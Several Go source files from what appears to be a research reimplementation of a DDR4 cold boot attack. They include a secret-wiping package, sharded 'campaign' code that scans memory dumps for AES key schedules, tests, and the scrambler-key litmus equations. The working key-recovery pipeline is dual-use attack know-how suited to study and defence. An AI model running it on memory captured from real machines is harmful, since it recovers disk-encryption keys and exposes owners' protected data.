package secret

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestWipeZeroes(t *testing.T) {
	b := []byte{1, 2, 3, 4}
	Wipe(b)
	if !bytes.Equal(b, make([]byte, 4)) {
		t.Fatalf("Wipe left %v", b)
	}
	w := []uint32{0xdeadbeef, 1}
	WipeWords(w)
	if w[0] != 0 || w[1] != 0 {
		t.Fatalf("WipeWords left %v", w)
	}
}

func TestBytesLifecycle(t *testing.T) {
	raw := []byte("sixteen byte key")
	s := New(raw)
	if got := s.Reveal(); !bytes.Equal(got, raw) {
		t.Fatalf("Reveal = %q, want %q", got, raw)
	}
	if s.Len() != len(raw) {
		t.Fatalf("Len = %d, want %d", s.Len(), len(raw))
	}
	// The owned copy is independent of the caller's buffer.
	raw[0] = 'X'
	if s.Reveal()[0] == 'X' {
		t.Fatal("New did not copy its input")
	}
	fp := s.Fingerprint()
	if !strings.HasPrefix(fp, "sha256:") || len(fp) != len("sha256:")+12 {
		t.Fatalf("Fingerprint = %q", fp)
	}
	view := s.Reveal()
	s.Destroy()
	if !s.Destroyed() {
		t.Fatal("Destroyed() = false after Destroy")
	}
	if s.Reveal() != nil || s.Len() != 0 {
		t.Fatal("destroyed Bytes still reveals data")
	}
	if !bytes.Equal(view, make([]byte, len(view))) {
		t.Fatalf("Destroy left the buffer unwiped: %v", view)
	}
	if got := s.Fingerprint(); got != fp {
		t.Fatalf("Fingerprint changed across Destroy: %q != %q", got, fp)
	}
	s.Destroy() // idempotent
}

func TestNilBytes(t *testing.T) {
	var s *Bytes
	if s.Reveal() != nil || s.Len() != 0 || !s.Destroyed() || s.Fingerprint() != "" {
		t.Fatal("nil *Bytes must behave as destroyed")
	}
	s.Destroy()
}

func TestStringRedacts(t *testing.T) {
	s := New([]byte{0xAA, 0xBB, 0xCC})
	out := fmt.Sprint(s)
	if strings.Contains(out, "aabbcc") || strings.Contains(out, "\xaa") {
		t.Fatalf("String leaked key bytes: %q", out)
	}
	if !strings.Contains(out, s.Fingerprint()) {
		t.Fatalf("String %q does not carry the fingerprint", out)
	}
	s.Destroy()
	if got := fmt.Sprint(s); got != "secret.Bytes(destroyed)" {
		t.Fatalf("destroyed String = %q", got)
	}
}

func TestFingerprintShape(t *testing.T) {
	a, b := Fingerprint([]byte("a")), Fingerprint([]byte("b"))
	if a == b {
		t.Fatal("distinct inputs share a fingerprint")
	}
	if !strings.HasPrefix(a, "sha256:") {
		t.Fatalf("Fingerprint = %q", a)
	}
}

func TestWipeFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "spool")
	payload := bytes.Repeat([]byte{0x5A}, 70_000) // spans multiple wipe chunks
	if err := os.WriteFile(path, payload, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := WipeFile(path); err != nil {
		t.Fatalf("WipeFile: %v", err)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(payload) {
		t.Fatalf("WipeFile changed size: %d != %d", len(got), len(payload))
	}
	if !bytes.Equal(got, make([]byte, len(payload))) {
		t.Fatal("WipeFile left nonzero bytes")
	}
	if err := WipeFile(filepath.Join(t.TempDir(), "missing")); err == nil {
		t.Fatal("WipeFile on a missing file must error")
	}
}
