package core

import (
	"context"
	"fmt"
	"runtime"
	"strconv"
	"sync"

	"coldboot/internal/format"
	"coldboot/internal/obs"
)

// Campaign orchestration. The paper (§III-C, Attack Performance): "since
// the task is fully parallelizable, we can analyze gigabytes of data in a
// matter of hours using multiple machines. For example, using a machine
// with an eight-core Intel Xeon D1541 CPU, we are able to fully search an
// 8 GB DDR4 DRAM image in just over 21 hours."
//
// A Campaign shards a large dump into worker-sized segments, mines keys
// once globally (mining is cheap and the key pool spans the whole image),
// and fans the expensive AES-schedule scan out across shards — which may
// run on separate goroutines here, or be dispatched to separate machines by
// the caller via the Shard/MergeShardResults primitives. The dump itself is
// read through a BlockSource one mining window / one shard at a time, so an
// on-disk multi-GB capture (dumpfile's streaming reader) is analyzed in
// constant memory. Progress reporting and context cancellation — now
// per scan chunk WITHIN a shard, not just between shards — make multi-hour
// campaigns operable.

// Shard is one independently scannable piece of a dump.
type Shard struct {
	Index int
	// FirstBlock and Blocks delimit the shard within the full dump.
	FirstBlock int
	Blocks     int
}

// ShardResult carries one shard's findings back for merging. Keys arrive
// untagged/unfiltered (see Config.skipFormatFilter): LUKS2 pair tagging
// and format filtering run once over the merged set, because a schedule
// pair can straddle a shard boundary. Volume offsets are already rebased
// to full-dump coordinates.
type ShardResult struct {
	Shard   Shard
	Keys    []FoundKey
	Volumes []format.Volume
	Pairs   int64
}

// Progress is delivered to the campaign's observer after each shard.
type Progress struct {
	DoneShards, TotalShards int
	DoneBlocks, TotalBlocks int
	KeysFound               int
}

// CampaignConfig tunes a sharded attack.
type CampaignConfig struct {
	// Attack is the per-shard attack configuration (Workers applies within
	// each shard; shards themselves run Parallel at a time). Attack.Tracer
	// also observes the campaign: the global mining pass runs under the
	// "campaign.mine" stage, per-shard pipelines aggregate under the usual
	// stage names, and the final dedup under "campaign.merge".
	Attack Config
	// ShardBlocks is the shard size in 64-byte blocks (default 65536,
	// i.e. 4 MiB shards).
	ShardBlocks int
	// Parallel is how many shards run concurrently. Zero (the zero value)
	// means one in-flight shard per CPU; callers never need to set it. When
	// Attack.Workers is also zero, the per-shard worker count is divided by
	// Parallel so the two levels together target one goroutine per CPU
	// instead of multiplying into NumCPU².
	Parallel int
	// OnProgress, if non-nil, is called after each shard completes.
	OnProgress func(Progress)
	// TraceID, when non-empty, names the campaign's distributed trace
	// instead of letting the plan mint one — callers that already minted
	// an ID (the analysis service, which surfaces it on the job record)
	// pass it down so the wire plan, shard spans, and job status all
	// agree on one identifier.
	TraceID string
}

func (c CampaignConfig) withDefaults() CampaignConfig {
	if c.ShardBlocks == 0 {
		c.ShardBlocks = 65536
	}
	if c.Parallel <= 0 {
		c.Parallel = runtime.NumCPU()
	}
	if c.Attack.Workers <= 0 {
		// Split the CPU budget between shard-level and block-level
		// parallelism rather than letting the defaults multiply.
		c.Attack.Workers = runtime.NumCPU() / c.Parallel
		if c.Attack.Workers < 1 {
			c.Attack.Workers = 1
		}
	}
	return c
}

// Shards splits a dump of n blocks into segments. Shards overlap by the
// schedule size so a key table straddling a boundary is fully visible to
// at least one shard.
func Shards(totalBlocks, shardBlocks, overlapBlocks int) []Shard {
	if shardBlocks <= 0 {
		shardBlocks = totalBlocks
	}
	var out []Shard
	for first := 0; first < totalBlocks; first += shardBlocks {
		n := shardBlocks + overlapBlocks
		if first+n > totalBlocks {
			n = totalBlocks - first
		}
		out = append(out, Shard{Index: len(out), FirstBlock: first, Blocks: n})
		if first+n >= totalBlocks && first+shardBlocks >= totalBlocks {
			break
		}
	}
	return out
}

// RunCampaign executes a sharded attack over a (possibly very large)
// memory-resident dump. Cancellation stops the campaign mid-shard — each
// shard's scan polls the context every chunk — and the merged results
// found so far are returned together with ctx.Err().
func RunCampaign(ctx context.Context, dump []byte, cfg CampaignConfig) (*Result, error) {
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	return RunCampaignSource(ctx, BytesSource(dump), cfg)
}

// RunCampaignSource is RunCampaign over a BlockSource: the image is read
// one mining window / one shard at a time and never held fully resident,
// so dumps larger than memory stream from disk (pair with dumpfile.Open).
//
// It is the in-process composition of the plan primitives — Plan, a
// concurrent local shard loop over ScanShardBytes, Finalize — that
// internal/fleet distributes across worker processes. Both paths produce
// byte-identical results because they share every phase but the shard
// transport.
func RunCampaignSource(ctx context.Context, src BlockSource, cfg CampaignConfig) (*Result, error) {
	plan, err := PlanCampaignSource(ctx, src, cfg)
	if plan == nil {
		return nil, err
	}
	defer plan.Close()
	if err != nil {
		return plan.Result(), err
	}
	cfg = plan.cfg
	totalBlocks := plan.TotalBlocks

	// Shard buffers are pooled per in-flight worker; memory-resident
	// sources lend subslices instead (no copy at all).
	var bufs chan []byte
	if _, resident := src.(sliceSource); !resident {
		bufs = make(chan []byte, cfg.Parallel)
		for i := 0; i < cfg.Parallel; i++ {
			bufs <- make([]byte, (cfg.ShardBlocks+plan.Overlap)*BlockBytes)
		}
	}

	var (
		mu        sync.Mutex
		done      int
		doneBlk   int
		pairs     int64
		collected []FoundKey
		colVols   []format.Volume
		campErr   error
	)
	setErr := func(err error) {
		if err != nil && campErr == nil {
			campErr = err
		}
	}
	sem := make(chan struct{}, cfg.Parallel)
	var wg sync.WaitGroup
shardLoop:
	for _, sh := range plan.Shards {
		select {
		case <-ctx.Done():
			mu.Lock()
			setErr(ctx.Err())
			mu.Unlock()
			break shardLoop
		default:
		}
		wg.Add(1)
		sem <- struct{}{}
		go func(sh Shard) {
			defer wg.Done()
			defer func() { <-sem }()
			shSpan := plan.ShardSpan(sh)
			defer shSpan.End()
			sub, release, err := shardBytes(src, sh, bufs)
			if err != nil {
				mu.Lock()
				setErr(err)
				mu.Unlock()
				return
			}
			sr, serr := plan.ScanShardBytes(ctx, sub, sh, shSpan)
			release()
			shSpan.SetAttr("keys", strconv.Itoa(len(sr.Keys)))
			mu.Lock()
			setErr(serr)
			collected = append(collected, sr.Keys...)
			colVols = append(colVols, sr.Volumes...)
			pairs += sr.Pairs
			done++
			doneBlk += sh.Blocks
			if cfg.OnProgress != nil {
				cfg.OnProgress(Progress{
					DoneShards: done, TotalShards: len(plan.Shards),
					DoneBlocks: doneBlk, TotalBlocks: totalBlocks,
					KeysFound: len(collected),
				})
			}
			blk := doneBlk
			mu.Unlock()
			plan.tracer.Progress("campaign", int64(blk), int64(totalBlocks))
		}(sh)
	}
	wg.Wait()
	res := plan.Finalize(collected, colVols, pairs)
	return res, campErr
}

// mergeVolumes deduplicates volume sightings across shards (overlap
// regions sight the same header twice) and orders them by offset.
func mergeVolumes(vols []format.Volume) []format.Volume {
	if len(vols) == 0 {
		return nil
	}
	byOff := make(map[int]format.Volume, len(vols))
	for _, v := range vols {
		byOff[v.Offset] = v
	}
	return sortedVolumes(byOff)
}

// startCampaignSpan opens the campaign's root span, nesting it under the
// caller's span (coldbootd's per-job span) when one is provided.
func startCampaignSpan(tracer obs.Tracer, parent obs.Span, totalBlocks int) obs.Span {
	attrs := []obs.Attr{obs.A("blocks", strconv.Itoa(totalBlocks))}
	if parent != nil {
		return parent.Child("campaign", attrs...)
	}
	return tracer.StartSpan("campaign", attrs...)
}

// shardBytes materializes one shard's bytes: a borrowed subslice for
// memory-resident sources, or a pooled buffer filled by ReadBlocks for
// streaming ones. release returns a pooled buffer; it must be called once
// the shard scan is done with the bytes.
func shardBytes(src BlockSource, sh Shard, bufs chan []byte) (sub []byte, release func(), err error) {
	if s, ok := src.(sliceSource); ok {
		return s.slice(sh.FirstBlock, sh.Blocks), func() {}, nil
	}
	buf := <-bufs
	sub = buf[:sh.Blocks*BlockBytes]
	if err := src.ReadBlocks(sh.FirstBlock, sub); err != nil {
		bufs <- buf
		return nil, nil, fmt.Errorf("core: reading shard %d: %w", sh.Index, err)
	}
	return sub, func() { bufs <- buf }, nil
}

// shardMineView projects the global mining result onto one shard: the same
// keys, with sighting positions rebased to shard-local block indices and
// out-of-shard sightings dropped. The zero-block skip set the shard attack
// derives from it is exactly what a fresh mine over the shard's bytes would
// produce (the blocks are the same bytes), without re-paying the mining
// pass per shard.
func shardMineView(mine *MineResult, sh Shard) *MineResult {
	out := &MineResult{BlocksScanned: sh.Blocks}
	for _, k := range mine.Keys {
		var pos []int
		for _, p := range k.Positions {
			if p >= sh.FirstBlock && p < sh.FirstBlock+sh.Blocks {
				pos = append(pos, p-sh.FirstBlock)
			}
		}
		if pos != nil {
			out.BlocksPassed += len(pos)
			out.Keys = append(out.Keys, MinedKey{Key: k.Key, Count: len(pos), Positions: pos})
		}
	}
	return out
}

// scanShard runs the per-block scan of the attack pipeline over one shard,
// using the globally mined key pool and directory. A cancelled context
// surfaces the partial findings together with ctx.Err().
func scanShard(ctx context.Context, sub []byte, sh Shard, mine *MineResult, directory KeyDirectory, cfg Config, span obs.Span) (ShardResult, error) {
	shiftedDir := func(b int) [][]byte { return directory(b + sh.FirstBlock) }
	res, err := AttackContext(ctx, sub, Config{
		Variant:         cfg.Variant,
		Formats:         cfg.Formats,
		LitmusTolerance: cfg.LitmusTolerance,
		AESTolerance:    cfg.AESTolerance,
		MinVerifyScore:  cfg.MinVerifyScore,
		RepairFlips:     cfg.RepairFlips,
		Workers:         cfg.Workers,
		KeysForBlock:    shiftedDir,
		Mine:            shardMineView(mine, sh),
		// All shards share the campaign's schedule cache: a master
		// re-sighted in an overlap region expands once, not once per shard.
		ScheduleCache: cfg.ScheduleCache,
		Tracer:        cfg.Tracer,
		Span:          span,
		// Tagging and filtering happen after the cross-shard merge.
		skipFormatFilter: true,
	})
	out := ShardResult{Shard: sh}
	if res == nil {
		return out, err
	}
	for _, k := range res.Keys {
		k.TableStart += sh.FirstBlock * BlockBytes
		out.Keys = append(out.Keys, k)
	}
	for _, v := range res.Volumes {
		v.Offset += sh.FirstBlock * BlockBytes
		out.Volumes = append(out.Volumes, v)
	}
	out.Pairs = res.PairsTested
	return out, err
}

// MergeShardResults deduplicates findings across shards (overlap regions
// produce the same key twice) using the same best-score-per-region,
// per-format rule as the single-dump attack's alias suppression.
func MergeShardResults(keys []FoundKey, schedBytes int) []FoundKey {
	sortFoundKeys(keys)
	return suppressAliases(keys, schedBytes)
}
