package core

import (
	"context"
	"fmt"
	"runtime"
	"sort"
	"sync"
)

// Campaign orchestration. The paper (§III-C, Attack Performance): "since
// the task is fully parallelizable, we can analyze gigabytes of data in a
// matter of hours using multiple machines. For example, using a machine
// with an eight-core Intel Xeon D1541 CPU, we are able to fully search an
// 8 GB DDR4 DRAM image in just over 21 hours."
//
// A Campaign shards a large dump into worker-sized segments, mines keys
// once globally (mining is cheap and the key pool spans the whole image),
// and fans the expensive AES-schedule scan out across shards — which may
// run on separate goroutines here, or be dispatched to separate machines by
// the caller via the Shard/MergeShardResults primitives. Progress reporting
// and context cancellation make multi-hour campaigns operable.

// Shard is one independently scannable piece of a dump.
type Shard struct {
	Index int
	// FirstBlock and Blocks delimit the shard within the full dump.
	FirstBlock int
	Blocks     int
}

// ShardResult carries one shard's findings back for merging.
type ShardResult struct {
	Shard Shard
	Keys  []FoundKey
	Pairs int64
}

// Progress is delivered to the campaign's observer after each shard.
type Progress struct {
	DoneShards, TotalShards int
	DoneBlocks, TotalBlocks int
	KeysFound               int
}

// CampaignConfig tunes a sharded attack.
type CampaignConfig struct {
	// Attack is the per-shard attack configuration (Workers applies within
	// each shard; shards themselves run Parallel at a time).
	Attack Config
	// ShardBlocks is the shard size in 64-byte blocks (default 65536,
	// i.e. 4 MiB shards).
	ShardBlocks int
	// Parallel is how many shards run concurrently. Zero (the zero value)
	// means one in-flight shard per CPU; callers never need to set it. When
	// Attack.Workers is also zero, the per-shard worker count is divided by
	// Parallel so the two levels together target one goroutine per CPU
	// instead of multiplying into NumCPU².
	Parallel int
	// OnProgress, if non-nil, is called after each shard completes.
	OnProgress func(Progress)
}

func (c CampaignConfig) withDefaults() CampaignConfig {
	if c.ShardBlocks == 0 {
		c.ShardBlocks = 65536
	}
	if c.Parallel <= 0 {
		c.Parallel = runtime.NumCPU()
	}
	if c.Attack.Workers <= 0 {
		// Split the CPU budget between shard-level and block-level
		// parallelism rather than letting the defaults multiply.
		c.Attack.Workers = runtime.NumCPU() / c.Parallel
		if c.Attack.Workers < 1 {
			c.Attack.Workers = 1
		}
	}
	return c
}

// Shards splits a dump of n blocks into segments. Shards overlap by the
// schedule size so a key table straddling a boundary is fully visible to
// at least one shard.
func Shards(totalBlocks, shardBlocks, overlapBlocks int) []Shard {
	if shardBlocks <= 0 {
		shardBlocks = totalBlocks
	}
	var out []Shard
	for first := 0; first < totalBlocks; first += shardBlocks {
		n := shardBlocks + overlapBlocks
		if first+n > totalBlocks {
			n = totalBlocks - first
		}
		out = append(out, Shard{Index: len(out), FirstBlock: first, Blocks: n})
		if first+n >= totalBlocks && first+shardBlocks >= totalBlocks {
			break
		}
	}
	return out
}

// RunCampaign executes a sharded attack over a (possibly very large) dump.
// The context cancels between shards; a cancelled campaign returns the
// merged results found so far together with ctx.Err().
func RunCampaign(ctx context.Context, dump []byte, cfg CampaignConfig) (*Result, error) {
	cfg = cfg.withDefaults()
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	attackCfg := cfg.Attack.withDefaults()

	// Global mining pass: keys repeat across the whole image, so one pass
	// yields the best pool and the true stride.
	mine, err := MineKeys(dump, MineOptions{
		Tolerance:     attackCfg.LitmusTolerance,
		MergeDistance: attackCfg.MergeDistance,
		MaxBytes:      attackCfg.MineMaxBytes,
	})
	if err != nil {
		return nil, err
	}
	res := &Result{Mine: mine, BlocksScanned: len(dump) / BlockBytes}
	res.Stride = mine.InferStride()
	var directory KeyDirectory
	switch {
	case attackCfg.KeysForBlock != nil:
		directory = attackCfg.KeysForBlock
	case attackCfg.Exhaustive || res.Stride == 0:
		directory = AllKeysDirectory(mine)
	default:
		res.Coverage = mine.Coverage(res.Stride)
		directory = ResidueDirectory(mine, res.Stride)
	}

	overlap := attackCfg.Variant.ScheduleBytes()/BlockBytes + 1
	shards := Shards(len(dump)/BlockBytes, cfg.ShardBlocks, overlap)

	var (
		mu        sync.Mutex
		done      int
		doneBlk   int
		collected []FoundKey
		campErr   error
	)
	sem := make(chan struct{}, cfg.Parallel)
	var wg sync.WaitGroup
shardLoop:
	for _, sh := range shards {
		select {
		case <-ctx.Done():
			campErr = ctx.Err()
			break shardLoop
		default:
		}
		wg.Add(1)
		sem <- struct{}{}
		go func(sh Shard) {
			defer wg.Done()
			defer func() { <-sem }()
			sr := scanShard(dump, sh, directory, attackCfg, mine)
			mu.Lock()
			collected = append(collected, sr.Keys...)
			res.PairsTested += sr.Pairs
			done++
			doneBlk += sh.Blocks
			if cfg.OnProgress != nil {
				cfg.OnProgress(Progress{
					DoneShards: done, TotalShards: len(shards),
					DoneBlocks: doneBlk, TotalBlocks: len(dump) / BlockBytes,
					KeysFound: len(collected),
				})
			}
			mu.Unlock()
		}(sh)
	}
	wg.Wait()
	res.Keys = MergeShardResults(collected, attackCfg.Variant.ScheduleBytes())
	return res, campErr
}

// scanShard runs the per-block scan of the attack pipeline over one shard,
// using the globally mined key directory.
func scanShard(dump []byte, sh Shard, directory KeyDirectory, cfg Config, mine *MineResult) ShardResult {
	sub := dump[sh.FirstBlock*BlockBytes : (sh.FirstBlock+sh.Blocks)*BlockBytes]
	shiftedDir := func(b int) [][]byte { return directory(b + sh.FirstBlock) }
	res, err := Attack(sub, Config{
		Variant:         cfg.Variant,
		LitmusTolerance: cfg.LitmusTolerance,
		AESTolerance:    cfg.AESTolerance,
		MinVerifyScore:  cfg.MinVerifyScore,
		RepairFlips:     cfg.RepairFlips,
		Workers:         cfg.Workers,
		KeysForBlock:    shiftedDir,
	})
	out := ShardResult{Shard: sh}
	if err != nil {
		return out
	}
	for _, k := range res.Keys {
		k.TableStart += sh.FirstBlock * BlockBytes
		out.Keys = append(out.Keys, k)
	}
	out.Pairs = res.PairsTested
	return out
}

// MergeShardResults deduplicates findings across shards (overlap regions
// produce the same key twice) using the same best-score-per-region rule as
// the single-dump attack.
func MergeShardResults(keys []FoundKey, schedBytes int) []FoundKey {
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].Score != keys[j].Score {
			return keys[i].Score > keys[j].Score
		}
		if keys[i].TableStart != keys[j].TableStart {
			return keys[i].TableStart < keys[j].TableStart
		}
		return string(keys[i].Master) < string(keys[j].Master)
	})
	var out []FoundKey
	for _, c := range keys {
		dup := false
		for _, kept := range out {
			lo, hi := c.TableStart, c.TableStart+schedBytes
			if kept.TableStart > lo {
				lo = kept.TableStart
			}
			if kept.TableStart+schedBytes < hi {
				hi = kept.TableStart + schedBytes
			}
			if hi-lo >= schedBytes/2 {
				dup = true
				break
			}
		}
		if !dup {
			out = append(out, c)
		}
	}
	return out
}
