package core

import (
	"bytes"
	"context"
	"runtime"
	"sync"
	"testing"

	"coldboot/internal/workload"
)

// TestWorkerDefaults pins the zero-value ergonomics: a zero Config and a
// zero CampaignConfig must come out of withDefaults with machine-sized
// worker pools, never zero or negative (which would deadlock the chunked
// scans).
func TestWorkerDefaults(t *testing.T) {
	if got := (Config{}).withDefaults().Workers; got != runtime.NumCPU() {
		t.Errorf("Config.Workers default = %d, want NumCPU = %d", got, runtime.NumCPU())
	}
	if got := (Config{Workers: -3}).withDefaults().Workers; got != runtime.NumCPU() {
		t.Errorf("negative Workers normalized to %d, want %d", got, runtime.NumCPU())
	}
	if got := (Config{Workers: 2}).withDefaults().Workers; got != 2 {
		t.Errorf("explicit Workers overridden: %d", got)
	}
	cc := (CampaignConfig{}).withDefaults()
	if cc.Parallel != runtime.NumCPU() {
		t.Errorf("CampaignConfig.Parallel default = %d, want %d", cc.Parallel, runtime.NumCPU())
	}
	if cc.Attack.Workers < 1 {
		t.Errorf("campaign per-shard Workers = %d, want >= 1", cc.Attack.Workers)
	}
	if cc.Parallel*cc.Attack.Workers > 2*runtime.NumCPU() {
		t.Errorf("campaign defaults multiply: %d shards x %d workers on %d CPUs",
			cc.Parallel, cc.Attack.Workers, runtime.NumCPU())
	}
	cc = (CampaignConfig{Parallel: 2, Attack: Config{Workers: 3}}).withDefaults()
	if cc.Parallel != 2 || cc.Attack.Workers != 3 {
		t.Errorf("explicit campaign parallelism overridden: %+v", cc)
	}
}

// TestAttackWorkerPoolRace hammers the attack's block-scan worker pool:
// concurrent Attack calls over a shared dump, each fanning out its own
// workers, must all agree with a single-worker reference run. Run under
// -race by the Makefile's race gate.
func TestAttackWorkerPoolRace(t *testing.T) {
	master := testMaster(777, 32)
	const tableStart = 64*4096 + 128
	dump := buildAttackDump(t, 1<<20, 9, workload.LightSystem, master, tableStart)
	ref, err := Attack(dump, Config{Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(ref.Keys) == 0 || !bytes.Equal(ref.Keys[0].Master, master) {
		t.Fatal("reference attack failed; race test is vacuous")
	}
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func(workers int) {
			defer wg.Done()
			res, err := Attack(dump, Config{Workers: workers})
			if err != nil {
				t.Error(err)
				return
			}
			if len(res.Keys) != len(ref.Keys) {
				t.Errorf("workers=%d: %d keys, want %d", workers, len(res.Keys), len(ref.Keys))
				return
			}
			for j := range res.Keys {
				if !bytes.Equal(res.Keys[j].Master, ref.Keys[j].Master) ||
					res.Keys[j].TableStart != ref.Keys[j].TableStart ||
					res.Keys[j].Score != ref.Keys[j].Score {
					t.Errorf("workers=%d: key %d diverged from single-worker run", workers, j)
				}
			}
			if res.PairsTested != ref.PairsTested {
				t.Errorf("workers=%d: PairsTested = %d, want %d", workers, res.PairsTested, ref.PairsTested)
			}
		}(i%3 + 1)
	}
	wg.Wait()
}

// TestCampaignParallelShardRace drives the campaign's shard pool with more
// in-flight shards than CPUs and checks the merged result matches a direct
// single-shot attack.
func TestCampaignParallelShardRace(t *testing.T) {
	master := testMaster(778, 32)
	const tableStart = 2*4096*64 + 640
	dump := buildAttackDump(t, 2<<20, 10, workload.LightSystem, master, tableStart)
	direct, err := Attack(dump, Config{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := RunCampaign(context.Background(), dump, CampaignConfig{
		ShardBlocks: 2048, // 128 KiB shards: many shards in flight at once
		Parallel:    4,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) != len(direct.Keys) {
		t.Fatalf("campaign found %d keys, direct attack %d", len(res.Keys), len(direct.Keys))
	}
	for i := range res.Keys {
		if !bytes.Equal(res.Keys[i].Master, direct.Keys[i].Master) {
			t.Errorf("campaign key %d diverged from direct attack", i)
		}
	}
}
