package core

// Property-based tests (testing/quick) over the attack's core invariants.

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

func workloadLight() workload.Profile { return workload.LightSystem }

// TestPropertyLitmusLinear: the litmus distance is subadditive under XOR —
// in particular, XORing any block with a true key cannot raise the litmus
// distance by more than the block's own distance, which is the algebraic
// fact that makes double-scrambled dumps minable.
func TestPropertyLitmusLinear(t *testing.T) {
	s := scramble.NewSkylakeDDR4(9)
	f := func(idx uint16, blk [64]byte) bool {
		key := s.KeyAt(uint64(idx%4096) * 64)
		x := bitutil.XORNew(blk[:], key)
		return KeyLitmusDistance(x) == KeyLitmusDistance(blk[:])
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// TestPropertyScrambleRoundTrip: scramble∘descramble is the identity for
// every scrambler at every block-aligned offset.
func TestPropertyScrambleRoundTrip(t *testing.T) {
	scramblers := []scramble.Scrambler{
		scramble.NewDDR3(5),
		scramble.NewSkylakeDDR4(5),
		scramble.NewSkylakeVariant(5, 8, nil),
	}
	f := func(data [128]byte, off uint16) bool {
		o := uint64(off) * 64
		for _, s := range scramblers {
			enc := make([]byte, len(data))
			s.Scramble(enc, data[:], o)
			dec := make([]byte, len(data))
			s.Descramble(dec, enc, o)
			if !bytes.Equal(dec, data[:]) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// TestPropertyAESLitmusCompleteness: a block holding any 64-byte-aligned
// slice of any valid schedule always produces at least one hit that
// recovers the master exactly.
func TestPropertyAESLitmusCompleteness(t *testing.T) {
	f := func(seed int64, blockPick uint8) bool {
		rng := rand.New(rand.NewSource(seed))
		key := make([]byte, 32)
		rng.Read(key)
		sched := aes.ExpandKeyBytes(key)
		// Any word-aligned 64-byte window fully inside the schedule.
		maxStart := (len(sched) - 64) / 4
		start := 4 * (int(blockPick) % (maxStart + 1))
		block := make([]byte, 64)
		copy(block, sched[start:start+64])
		for _, h := range AESLitmus(block, aes.AES256, 0) {
			if bytes.Equal(MasterFromHit(block, h, aes.AES256), key) {
				return true
			}
		}
		return false
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Error(err)
	}
}

// TestPropertyMasterRecoveryComposition: RecoverMasterKey inverts ExpandKey
// from any window, for any variant — the identity the attack's step 4
// rests on.
func TestPropertyMasterRecoveryComposition(t *testing.T) {
	f := func(k [32]byte, pick uint8) bool {
		for _, v := range []aes.Variant{aes.AES128, aes.AES192, aes.AES256} {
			key := k[:v.KeyBytes()]
			w := aes.ExpandKey(key)
			nk := v.Nk()
			start := int(pick) % (len(w) - nk + 1)
			if !bytes.Equal(aes.RecoverMasterKey(w[start:start+nk], start, v), key) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// TestPropertyMinedKeysSatisfyLitmus: every key the miner emits passes the
// litmus test it was mined with (majority voting cannot push a key outside
// the invariant space when sightings are genuine).
func TestPropertyMinedKeysSatisfyLitmus(t *testing.T) {
	dump, _, _ := buildScrambledDump(t, 512<<10, 77, workloadLight())
	res, err := MineKeys(dump, MineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range res.Keys {
		if !PassesKeyLitmus(k.Key, DefaultLitmusTolerance) {
			t.Fatalf("mined key (count %d) fails litmus", k.Count)
		}
	}
}

// TestPropertyVerifyScoreBounds: VerifySchedule is always within [0, 1].
func TestPropertyVerifyScoreBounds(t *testing.T) {
	dump, _, _ := buildScrambledDump(t, 256<<10, 78, workloadLight())
	mine, _ := MineKeys(dump, MineOptions{})
	dir := AllKeysDirectory(mine)
	f := func(master [32]byte, start uint16) bool {
		s := VerifySchedule(dump, dir, master[:], int(start), aes.AES256)
		return s >= 0 && s <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}
