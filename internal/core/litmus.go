// Package core implements the paper's primary contribution: the DDR4 cold
// boot attack. Its stages mirror Section III:
//
//  1. Mine scrambler keys from a scrambled dump with the scrambler-key
//     litmus test — byte-pair invariants that every Skylake keystream block
//     satisfies, so zero-filled memory blocks (which expose raw keys) can be
//     distinguished from data (Key Idea 1).
//  2. Scan the dump for 64-byte blocks that, descrambled with a mined key,
//     contain consecutive AES key-schedule round keys — verified by running
//     partial key expansions at every alignment and round phase, without
//     descrambling any neighbouring block (the AES key litmus test).
//  3. Extend around each hit, reconstruct the full schedule, and recover
//     the master key — using backward key expansion, so the table head may
//     even be missing.
//  4. Tolerate bit decay everywhere via hamming-distance comparisons,
//     majority voting over repeated keystream sightings, and optional
//     single/double-bit window repair.
//
// A DDR3 baseline attack (frequency analysis + the reboot universal key,
// after Bauer et al.) is included for comparison.
package core

import (
	"coldboot/internal/bitutil"
)

// BlockBytes is the scrambler/attack granularity.
const BlockBytes = 64

// KeyLitmusEquations is the number of invariant equations checked per
// 64-byte block: the four published byte-pair relations in each of the four
// 16-byte groups.
const KeyLitmusEquations = 16

// KeyLitmusDistance returns the total hamming distance across all the
// scrambler-key invariant equations for a 64-byte block. A true scrambler
// key (or the XOR of two scrambler keys for the same index — the
// double-scrambled case) scores 0; a decayed key scores a small number; a
// random or structured-data block almost surely scores high.
//
// The equations, from Section III-B, for each 16-byte-aligned group at i:
//
//	K[i+2:i+3]^K[i+4:i+5] == K[i+10:i+11]^K[i+12:i+13]
//	K[i:i+1]^K[i+6:i+7]   == K[i+8:i+9]^K[i+14:i+15]
//	K[i:i+1]^K[i+4:i+5]   == K[i+8:i+9]^K[i+12:i+13]
//	K[i:i+1]^K[i+2:i+3]   == K[i+8:i+9]^K[i+10:i+11]
